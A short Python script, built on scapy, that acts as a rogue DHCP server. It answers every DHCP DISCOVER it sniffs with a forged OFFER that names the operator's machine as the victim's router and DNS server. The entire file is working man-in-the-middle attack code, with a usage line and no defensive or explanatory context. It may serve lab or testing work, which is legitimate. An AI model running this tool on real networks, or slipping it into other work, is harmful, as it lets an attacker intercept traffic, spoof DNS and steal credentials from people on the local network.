# A rogue DHCP server (scapy): answers every DISCOVER it sniffs with an OFFER naming itself as router and DNS server.
# Usage: rogue_dhcp.py IFACE SERVER_IP OFFERED_IP SECONDS
import sys
from scapy.all import sniff, sendp, Ether, IP, UDP, BOOTP, DHCP, get_if_hwaddr, conf

conf.verb = 0
iface, server, offered, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
mac = get_if_hwaddr(iface)

def answer(p):
    if DHCP in p and ('message-type', 1) in [o for o in p[DHCP].options if isinstance(o, tuple)]:
        offer = (Ether(src=mac, dst='ff:ff:ff:ff:ff:ff') / IP(src=server, dst='255.255.255.255') / UDP(sport=67, dport=68)
                 / BOOTP(op=2, xid=p[BOOTP].xid, yiaddr=offered, siaddr=server, chaddr=p[BOOTP].chaddr)
                 / DHCP(options=[('message-type', 'offer'), ('server_id', server), ('router', server), ('name_server', server), ('lease_time', 600), 'end']))
        sendp(offer, iface=iface)

sniff(iface=iface, filter='udp and port 67', prn=answer, timeout=seconds, started_callback=lambda: print('ready', flush=True))
